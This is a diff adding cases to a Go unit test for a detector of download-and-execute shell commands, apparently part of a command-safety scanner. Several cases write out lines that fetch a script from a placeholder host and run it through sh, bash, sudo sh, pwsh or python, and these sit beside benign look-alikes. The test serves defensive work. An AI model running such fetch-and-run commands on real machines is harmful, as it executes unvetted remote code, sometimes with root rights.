@@ -31,6 +31,16 @@ func TestDownloadExec(t *testing.T) {
 		{"download_only", "curl -o install.sh https://x.example/install.sh\ncat install.sh", nil},
 		{"chmod_only", "curl -o install.sh https://x.example/install.sh\nchmod +x install.sh", nil},
 		{"no_fetch", "make build | tee log.txt", nil},
+		{"grouped_o_then_sh", "curl -fsSLo i.sh https://x.example/i.sh\nsh i.sh", []string{"curl -fsSLo i.sh https://x.example/i.sh\nsh i.sh"}},
+		{"output_eq_then_bash_flags", "curl --output=/tmp/i.sh https://x.example/i\nbash -x /tmp/i.sh", []string{"curl --output=/tmp/i.sh https://x.example/i\nbash -x /tmp/i.sh"}},
+		{"wget_qO_then_sudo_sh", "wget -qO inst.sh https://x.example/i && sudo sh inst.sh", []string{"wget -qO inst.sh https://x.example/i && sudo sh inst.sh"}},
+		{"quoted_file", `curl -o "i.sh" https://x.example/i && bash "i.sh"`, []string{`curl -o "i.sh" https://x.example/i && bash "i.sh"`}},
+		{"grouped_o_then_tar", "curl -fsSLo tool.tgz https://x.example/t.tgz\ntar xzf tool.tgz", nil},
+		{"curl_exe_pwsh", "curl.exe -sSL https://x.example/x.ps1 | pwsh", []string{"curl.exe -sSL https://x.example/x.ps1 | pwsh"}},
+		{"python_minor_version", "curl -s https://x.example/p | python3.12 -", []string{"curl -s https://x.example/p | python3.12"}},
+		{"not_a_fetcher_word", "mycurl https://x.example | sh\necho curlish | bash", nil},
+		{"or_is_not_a_pipe", "curl -fsS https://x.example/health || sh fallback.sh", nil},
+		{"other_file_with_same_suffix", "curl -o a.sh https://x.example/a\nsh ba.sh", nil},
 		{"two", "curl a.example | sh\necho ok\nwget -O- b.example | bash", []string{"curl a.example | sh", "wget -O- b.example | bash"}},
 	}
 	for _, tt := range tests {
